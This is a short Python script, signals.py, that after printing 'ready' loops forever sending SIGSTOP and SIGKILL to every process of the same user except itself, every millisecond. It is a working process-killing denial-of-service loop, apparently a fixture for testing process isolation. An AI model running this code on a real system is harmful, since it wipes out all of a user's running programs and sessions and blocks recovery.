"""signals.py: every process that takes signals of this uid gets two, all the time."""
import os
import signal
import time

print("ready", flush=True)
while True:
    for each in (signal.SIGSTOP, signal.SIGKILL):
        try:
            # all but this process
            os.kill(-1, each)
        except OSError:
            pass
    time.sleep(0.001)
